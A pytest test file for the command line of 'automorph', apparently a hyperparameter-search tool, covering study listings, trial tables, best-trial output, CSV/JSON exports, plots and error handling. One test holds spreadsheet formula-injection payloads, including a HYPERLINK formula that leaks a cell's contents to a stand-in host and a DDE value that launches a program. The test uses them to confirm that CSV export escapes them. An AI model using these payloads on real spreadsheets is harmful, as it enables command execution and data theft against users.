"""Tests of the `automorph` command line, on stores with known trials."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

import automorph as am
from automorph.cli import main
from automorph.storage import Event, MemoryStorage, Storage, StudyInfo, TrialRecord
from automorph.utils import StorageError

SPACE = am.Dict(op=am.oneof(["conv", "pool", "skip"]), lr=am.floatv(1e-4, 1e-1, scale="log"))
SPEC_JSON = am.to_json_str(am.dna_spec(SPACE))
CREATED = 1_700_000_000.0
ALGORITHM = '{"_type": "automorph.RandomSearch", "seed": 1}'
ROOT = Path(__file__).resolve().parents[2]

# dna, status, reward, metrics of the last measurement
DEMO: list[tuple[dict[str, Any], str, Any, dict[str, float] | None]] = [
    ({"op": 0, "lr": 0.01}, "completed", 0.5, {"loss": 0.5}),
    ({"op": 1, "lr": 0.001}, "completed", 0.9, {"loss": 0.1}),
    ({"op": 2, "lr": 0.1}, "failed", None, None),
    ({"op": 1, "lr": 0.05}, "completed", 0.7, {"loss": 0.3}),
    ({"op": 0, "lr": 0.02}, "skipped", None, None),
    ({"op": 2, "lr": 0.003}, "running", None, {"loss": 0.8}),
]
MULTI: list[tuple[dict[str, Any], str, Any, dict[str, float] | None]] = [
    ({"x": 1}, "completed", [1.0, 0.0], None),
    ({"x": 2}, "completed", [0.0, 1.0], None),
    ({"x": 3}, "completed", [0.0, 0.0], None),
]


def proposer(dna: dict[str, Any]) -> Callable[[list[Event]], tuple[dict[str, Any], None]]:
    return lambda events: (dna, None)


def fill(
    store: Storage,
    info: StudyInfo,
    rows: list[tuple[dict[str, Any], str, Any, dict[str, float] | None]],
) -> None:
    """Creates a study and runs its trials to the given ends."""
    store.create_study(info)
    for dna, status, reward, metrics in rows:
        trial = store.propose_trial(info.name, "w1", 0, proposer(dna))
        assert trial is not None
        if metrics is not None:
            measurement = {"reward": reward, "step": 3, "metrics": metrics, "elapsed": 1.5}
            store.add_measurement(info.name, trial.id, "w1", measurement)
        if status != "running":
            error = "ValueError: boom" if status == "failed" else None
            store.finish_trial(
                info.name,
                trial.id,
                "w1",
                status,  # type: ignore[arg-type]
                reward=reward,
                error=error,
                metadata={"seed": trial.id},
            )


def make_store(target: Storage | None = None) -> Storage:
    store = target if target is not None else MemoryStorage()
    demo = StudyInfo(
        "demo", dna_spec=SPEC_JSON, algorithm=ALGORITHM, created=CREATED, metadata={"owner": "ann"}
    )
    fill(store, demo, DEMO)
    fill(store, StudyInfo("multi", multi_objective=True, created=CREATED + 60), MULTI)
    return store


@pytest.fixture
def store() -> Storage:
    return make_store()


def run(
    capsys: pytest.CaptureFixture[str], store: Storage | None, *argv: str
) -> tuple[int, str, str]:
    code = main(list(argv), storage=store)
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def local(timestamp: float) -> str:
    return time.strftime("%Y-%m-%d %H:%M:%S", time.localtime(timestamp))


# --- commands ----------------------------------------------------------------------------


def test_studies_lists_counts_best_rewards_and_creation(
    capsys: pytest.CaptureFixture[str], store: Storage
) -> None:
    code, out, err = run(capsys, store, "studies")
    assert (code, err) == (0, "")
    assert out.splitlines() == [
        "name   trials  completed  best reward  created",
        "-----  ------  ---------  -----------  -------------------",
        f"demo        6          3          0.9  {local(CREATED)}",
        f"multi       3          3   front of 2  {local(CREATED + 60)}",
    ]


def test_studies_of_an_empty_store(capsys: pytest.CaptureFixture[str]) -> None:
    assert run(capsys, MemoryStorage(), "studies") == (0, "No studies in the store.\n", "")


def test_show_gives_counts_best_trial_and_decisions(
    capsys: pytest.CaptureFixture[str], store: Storage
) -> None:
    code, out, _ = run(capsys, store, "show", "demo")
    assert code == 0
    assert out.splitlines() == [
        "Study:      demo",
        f"Created:    {local(CREATED)}",
        "Objectives: one, maximized",
        "Algorithm:  automorph.RandomSearch",
        "Trials:     6 (1 running, 3 completed, 1 skipped, 1 failed)",
        "Best trial: 2 (reward 0.9)",
        "  dna: op=1, lr=0.001",
        "Decisions:  2",
        "  op  choice of 3 (conv, pool, skip)",
        "  lr  float in [0.0001, 0.1] (log)",
        "Metadata:   owner = ann",
    ]


def test_show_of_several_objectives_gives_the_pareto_front(
    capsys: pytest.CaptureFixture[str], store: Storage
) -> None:
    _, out, _ = run(capsys, store, "show", "multi")
    assert "Objectives: several, maximized" in out
    assert "Pareto front: 2 trials (1, 2)" in out
    assert "Decisions:  1\n  x\n" in out  # no spec: the ids the trials have


def test_trials_table(capsys: pytest.CaptureFixture[str], store: Storage) -> None:
    code, out, _ = run(capsys, store, "trials", "demo")
    assert code == 0
    assert out.splitlines() == [
        "id  status     reward  worker  dna             error",
        "--  ---------  ------  ------  --------------  ----------------",
        " 1  completed     0.5  w1      op=0, lr=0.01",
        " 2  completed     0.9  w1      op=1, lr=0.001",
        " 3  failed          -  w1      op=2, lr=0.1    ValueError: boom",
        " 4  completed     0.7  w1      op=1, lr=0.05",
        " 5  skipped         -  w1      op=0, lr=0.02",
        " 6  running         -  w1      op=2, lr=0.003",
    ]


def test_trials_filtered_sorted_and_limited(
    capsys: pytest.CaptureFixture[str], store: Storage
) -> None:
    _, out, _ = run(capsys, store, "trials", "demo", "--status", "completed", "--sort", "reward")
    assert [line.split()[0] for line in out.splitlines()[2:]] == ["2", "4", "1"]
    _, out, _ = run(capsys, store, "trials", "demo", "--sort", "reward", "--limit", "2")
    lines = out.splitlines()
    assert [line.split()[0] for line in lines[2:4]] == ["2", "4"]
    assert lines[4] == (
        "(2 of 6 trials shown; `--limit 0` shows all, `automorph export` writes them to a file)"
    )
    _, out, _ = run(capsys, store, "trials", "demo", "--status", "pending")
    assert out == "Study 'demo' has no pending trials.\n"


class Prebuilt(MemoryStorage):
    """A store of one study whose trials are given; it can only stream them
    (`get_trials` with a status, as `trials --status` asks, still works)."""

    def __init__(self, trials: list[TrialRecord]) -> None:
        super().__init__()
        self.create_study(StudyInfo("big", created=CREATED))
        self.trials = trials

    def get_trials(self, study: str, status: Any = None) -> list[TrialRecord]:
        if status is None:
            raise AssertionError("every trial was asked for at once; stream them")
        return [t for t in self.trials if t.status == status]

    def iter_trials(self, study: str) -> Iterator[TrialRecord]:
        self.get_study(study)
        yield from self.trials


def big_store(n: int = 50_000) -> Prebuilt:
    return Prebuilt(
        [
            TrialRecord(
                "big",
                i,
                {"x": i % 7, "y": i / n},
                "completed" if i % 10 else "failed",
                reward=float(i % 1000) if i % 10 else None,
                worker="w1",
                created=CREATED + i,
            )
            for i in range(1, n + 1)
        ]
    )


def test_a_large_study_gives_short_tables_and_streamed_exports(
    capsys: pytest.CaptureFixture[str],
) -> None:
    store = big_store()
    _, out, _ = run(capsys, store, "studies")
    assert out.splitlines()[2] == f"big   50,000     45,000          999  {local(CREATED)}"
    _, out, _ = run(capsys, store, "trials", "big", "--status", "completed", "--sort", "reward")
    lines = out.splitlines()
    assert len(lines) == 2 + 50 + 1
    assert lines[2].split()[:3] == ["999", "completed", "999"]
    assert lines[-1].startswith("(50 of 45,000 trials shown;")
    _, out, _ = run(capsys, store, "trials", "big", "--status", "failed", "--limit", "0")
    assert len(out.splitlines()) == 2 + 5000
    _, out, _ = run(capsys, store, "show", "big")
    assert "Trials:     50,000 (45,000 completed, 5,000 failed)" in out
    _, out, _ = run(capsys, store, "export", "big")
    rows = list(csv.DictReader(io.StringIO(out)))
    assert len(rows) == 50_000 and rows[-1]["id"] == "50000" and rows[-1]["dna.y"] == "1.0"
    assert len(json.loads(run(capsys, store, "export", "big", "--format", "json")[1])) == 50_000


def test_best_as_text_and_json(capsys: pytest.CaptureFixture[str], store: Storage) -> None:
    code, out, _ = run(capsys, store, "best", "demo")
    assert code == 0
    assert out.splitlines()[:8] == [
        "Best trial of 'demo': trial 2",
        "reward: 0.9",
        "dna:",
        "  op = 1 (pool)",
        "  lr = 0.001",
        "metrics:",
        "  loss = 0.1",
        "metadata:",
    ]
    _, out, _ = run(capsys, store, "best", "demo", "--json")
    data = json.loads(out)
    assert (data["id"], data["reward"], data["dna"]) == (2, 0.9, {"op": 1, "lr": 0.001})
    assert (data["metrics"], data["metadata"], data["status"]) == (
        {"loss": 0.1},
        {"seed": 2},
        "completed",
    )


def test_best_of_several_objectives_is_the_pareto_front(
    capsys: pytest.CaptureFixture[str], store: Storage
) -> None:
    _, out, _ = run(capsys, store, "best", "multi")
    assert out.splitlines() == [
        "Pareto front of 'multi': 2 trials",
        "id  reward  dna",
        "--  ------  ---",
        " 1  [1, 0]  x=1",
        " 2  [0, 1]  x=2",
    ]
    _, out, _ = run(capsys, store, "best", "multi", "--json")
    assert [(t["id"], t["reward"]) for t in json.loads(out)] == [(1, [1.0, 0.0]), (2, [0.0, 1.0])]


def expected_records(store: Storage) -> list[dict[str, Any]]:
    rows = []
    for t in store.get_trials("demo"):
        last = t.measurements[-1] if t.measurements else {}
        rows.append(
            {
                "id": t.id,
                "status": t.status,
                "reward": t.reward,
                "step": last.get("step"),
                "elapsed": last.get("elapsed"),
                "error": t.error,
                "dna.op": t.dna["op"],
                "dna.lr": t.dna["lr"],
                "metrics.loss": (last.get("metrics") or {}).get("loss"),
                "metadata.seed": t.metadata.get("seed"),
                "worker": t.worker,
                "retries": t.retries,
                "created": t.created,
                "started": t.started,
                "finished": t.finished,
            }
        )
    return rows


def test_export_csv_parses_back(capsys: pytest.CaptureFixture[str], store: Storage) -> None:
    code, out, _ = run(capsys, store, "export", "demo", "--format", "csv")
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    expected = expected_records(store)
    assert list(rows[0]) == list(expected[0])
    for row, want in zip(rows, expected, strict=True):
        for key, value in want.items():
            if value is None:
                assert row[key] == "", key
            elif isinstance(value, float):
                assert float(row[key]) == value, key  # full precision
            else:
                assert row[key] == str(value), key


FORMULAS = {
    "eq": '=HYPERLINK("http://x.example/"&A1,"go")',
    "at": "@SUM(A1:A9)",
    "minus": "-2+3",
    "plus": "+cmd|' /C calc'!A0",
    "tab": "\t=1+2",
    "cr": "\r=1+2",
}


def test_export_csv_escapes_formulas_but_not_numbers(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    db = tmp_path / "studies.db"

    def objective(example: Any, feedback: Any) -> float:
        for key, text in FORMULAS.items():
            feedback.set_metadata(key, text)
        feedback.set_metadata("plain", "conv3x3")
        feedback.set_metadata("negative", -1.5)
        feedback.set_metadata("count", -3)
        return -1.5

    space = am.Dict(x=am.floatv(-2.0, -1.0))
    am.tune(objective, space, am.algorithms.Random(seed=1), 2, name="s", storage=str(db))
    out = tmp_path / "s.csv"
    assert main(["--storage", str(db), "export", "s", "--format", "csv", "-o", str(out)]) == 0
    capsys.readouterr()
    with out.open(encoding="utf-8", newline="") as stream:
        text = stream.read()
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == 2
    for row in rows:
        for key, formula in FORMULAS.items():
            assert row[f"metadata.{key}"] == "'" + formula, key  # shown as text, not run
        assert row["metadata.plain"] == "conv3x3"
        # Numbers stay numbers: negative ones are not escaped, nor quoted.
        assert float(row["reward"]) == -1.5 and row["reward"] == "-1.5"
        assert row["metadata.negative"] == "-1.5" and row["metadata.count"] == "-3"
        assert -2.0 <= float(row["dna.x"]) <= -1.0
    # Every text cell is quoted; the numbers are bare.
    first = text.split("\n")[1]
    assert first.startswith('1,"completed",-1.5,')
    assert '"\'=HYPERLINK(""http://x.example/""&A1,""go"")"' in first
    assert ',"conv3x3",-1.5,-3,' in first


def test_export_json_parses_back(capsys: pytest.CaptureFixture[str], store: Storage) -> None:
    code, out, _ = run(capsys, store, "export", "demo", "--format", "json")
    assert code == 0
    assert json.loads(out) == expected_records(store)


def test_export_of_several_objectives_has_a_column_per_objective(
    capsys: pytest.CaptureFixture[str], store: Storage
) -> None:
    _, out, _ = run(capsys, store, "export", "multi", "--format", "json")
    records = json.loads(out)
    assert [(r["reward.0"], r["reward.1"]) for r in records] == [(1.0, 0.0), (0.0, 1.0), (0.0, 0.0)]
    assert "reward" not in records[0]


def test_export_to_a_file(
    capsys: pytest.CaptureFixture[str], store: Storage, tmp_path: Path
) -> None:
    path = tmp_path / "demo.json"
    code, out, _ = run(capsys, store, "export", "demo", "--format", "json", "-o", str(path))
    assert (code, out) == (0, f"Wrote 6 trials of 'demo' to {path}\n")
    assert json.loads(path.read_text()) == expected_records(store)


def test_export_of_an_empty_study(capsys: pytest.CaptureFixture[str]) -> None:
    store = MemoryStorage()
    store.create_study(StudyInfo("empty"))
    assert json.loads(run(capsys, store, "export", "empty", "--format", "json")[1]) == []
    _, out, _ = run(capsys, store, "export", "empty")
    assert out.splitlines()[0].startswith("id,status,reward,step,elapsed,error,worker")


def test_plot_writes_png_and_html(
    capsys: pytest.CaptureFixture[str],
    store: Storage,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    code, out, _ = run(capsys, store, "plot", "demo", "--output", str(tmp_path / "r" / "demo"))
    assert code == 0
    assert out.splitlines() == [str(tmp_path / "r" / "demo.png"), str(tmp_path / "r" / "demo.html")]
    assert (tmp_path / "r" / "demo.png").stat().st_size > 10_000
    assert "The best is trial 2, with reward 0.9." in (tmp_path / "r" / "demo.html").read_text()
    monkeypatch.chdir(tmp_path)
    code, out, _ = run(capsys, store, "plot", "multi")
    assert (code, out) == (0, "multi.png\nmulti.html\n")


# --- errors ------------------------------------------------------------------------------


def test_an_unknown_study_lists_the_studies(
    capsys: pytest.CaptureFixture[str], store: Storage
) -> None:
    for command in ("show", "trials", "best", "export", "plot"):
        code, out, err = run(capsys, store, command, "dmeo")
        assert (code, out) == (1, "")
        assert err == (
            "automorph: error: no study named 'dmeo' in the store (studies: demo, multi); "
            "did you mean 'demo'?\n"
        )


def test_best_without_a_completed_trial_is_an_error(capsys: pytest.CaptureFixture[str]) -> None:
    store = MemoryStorage()
    fill(store, StudyInfo("new"), [({"x": 1}, "failed", None, None)])
    code, _, err = run(capsys, store, "best", "new")
    assert code == 1
    assert err == "automorph: error: study 'new' has no completed trial yet (1 trials: 1 failed)\n"


def test_a_missing_store_file_is_an_error_not_a_new_store(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("AUTOMORPH_STORAGE", raising=False)
    missing = tmp_path / "nope.db"
    code, out, err = run(capsys, None, "--storage", str(missing), "studies")
    assert (code, out) == (1, "")
    assert err == f"automorph: error: no automorph store at {missing}: the file does not exist\n"
    assert not missing.exists()
    code, _, err = run(capsys, None, "studies", "--storage", f"sqlite:///{missing}")
    assert code == 1 and f"no automorph store at {missing}" in err
    monkeypatch.setenv("AUTOMORPH_STORAGE", str(missing))
    code, _, err = run(capsys, None, "studies")
    assert code == 1 and err.endswith("does not exist (from $AUTOMORPH_STORAGE)\n")
    monkeypatch.delenv("AUTOMORPH_STORAGE")
    monkeypatch.chdir(tmp_path)
    code, _, err = run(capsys, None, "studies")
    assert code == 1
    assert err == (
        "automorph: error: no automorph store at automorph.db: the file does not exist "
        "(the default; give --storage or set $AUTOMORPH_STORAGE)\n"
    )
    assert not (tmp_path / "automorph.db").exists()


def test_stores_that_cannot_hold_studies_are_errors(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    code, _, err = run(capsys, None, "--storage", str(tmp_path), "studies")
    assert (
        code == 1 and err == f"automorph: error: {tmp_path} is a folder, not an automorph store\n"
    )
    code, _, err = run(capsys, None, "--storage", "memory://", "studies")
    assert code == 1 and "a store in memory, empty in a new process" in err


def test_an_unexpected_failure_prints_one_line_not_a_traceback(
    capsys: pytest.CaptureFixture[str],
) -> None:
    class Broken(MemoryStorage):
        def list_studies(self) -> list[StudyInfo]:
            raise RuntimeError("disk on fire")

    code, _, err = run(capsys, Broken(), "studies")
    assert code == 1
    assert err == (
        "automorph: error: RuntimeError: disk on fire (run with --traceback for details)\n"
    )
    code, _, err = run(capsys, Broken(), "studies", "--traceback")
    assert (
        code == 1
        and "Traceback" in err
        and err.endswith("disk on fire (run with --traceback for details)\n")
    )


def test_storage_errors_are_one_line(capsys: pytest.CaptureFixture[str]) -> None:
    class Locked(MemoryStorage):
        def get_trials(self, study: str, status: Any = None) -> list[TrialRecord]:
            raise StorageError("the store is locked\nby another process")

    store = Locked()
    store.create_study(StudyInfo("s"))
    code, _, err = run(capsys, store, "trials", "s")
    assert (code, err) == (1, "automorph: error: the store is locked by another process\n")


def test_a_store_without_its_backend_is_one_line(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "a.db"
    path.write_bytes(b"")
    monkeypatch.setitem(sys.modules, "automorph.storage._sql", None)
    code, _, err = run(capsys, None, "--storage", str(path), "studies")
    assert (code, err) == (
        1,
        f"automorph: error: cannot open {path}: this automorph has no SQL storage\n",
    )


def test_an_interrupt_exits_130(capsys: pytest.CaptureFixture[str]) -> None:
    class Slow(MemoryStorage):
        def list_studies(self) -> list[StudyInfo]:
            raise KeyboardInterrupt

    assert run(capsys, Slow(), "studies") == (130, "", "automorph: interrupted\n")


def test_bad_arguments_exit_2_with_usage(
    capsys: pytest.CaptureFixture[str], store: Storage
) -> None:
    code, _, err = run(capsys, store, "trials", "demo", "--limit", "-1")
    assert code == 2 and "--limit: must be 0 or more, got -1" in err
    code, _, err = run(capsys, store, "export", "demo", "--format", "xml")
    assert code == 2 and "invalid choice: 'xml'" in err
    code, _, err = run(capsys, store)
    assert code == 2 and "required: COMMAND" in err
    code, out, _ = run(capsys, store, "--help")
    assert code == 0 and "export" in out and "AUTOMORPH_STORAGE" in out


def test_python_dash_m_runs_the_command_line(tmp_path: Path) -> None:
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    env.pop("AUTOMORPH_STORAGE", None)
    done = subprocess.run(
        [sys.executable, "-m", "automorph.cli", "--storage", str(tmp_path / "x.db"), "studies"],
        capture_output=True,
        text=True,
        env=env,
        cwd=tmp_path,
        check=False,
    )
    assert done.returncode == 1
    assert (
        done.stderr
        == f"automorph: error: no automorph store at {tmp_path / 'x.db'}: the file does not exist\n"
    )


# --- a SQLite file, end to end -------------------------------------------------------------


def test_a_sqlite_store_end_to_end(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    pytest.importorskip("sqlalchemy")
    pytest.importorskip("automorph.storage._sql")
    from automorph.storage import open_storage

    path = str(tmp_path / "studies.db")
    store = open_storage(path)
    try:
        make_store(store)
    finally:
        store.close()
    code, out, err = run(capsys, None, "--storage", path, "studies")
    assert (code, err) == (0, "")
    assert out.splitlines()[2] == f"demo        6          3          0.9  {local(CREATED)}"
    prefix = tmp_path / "demo"
    code, out, err = run(
        capsys, None, "--storage", f"sqlite:///{path}", "plot", "demo", "-o", str(prefix)
    )
    assert (code, err) == (0, "")
    assert out.splitlines() == [f"{prefix}.png", f"{prefix}.html"]
    assert (tmp_path / "demo.png").stat().st_size > 10_000
    code, out, _ = run(capsys, None, "--storage", path, "export", "demo", "--format", "json")
    assert code == 0 and [r["reward"] for r in json.loads(out)] == [0.5, 0.9, None, 0.7, None, None]


def test_a_file_that_is_not_a_store_is_one_line(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    pytest.importorskip("sqlalchemy")
    pytest.importorskip("automorph.storage._sql")
    path = tmp_path / "notes.txt"
    path.write_text("not a database, just some text that is long enough to look like a file\n" * 20)
    code, out, err = run(capsys, None, "--storage", str(path), "studies")
    assert (code, out) == (1, "")
    assert err.startswith("automorph: error: ") and err.count("\n") == 1
    assert str(path) in err and "Traceback" not in err
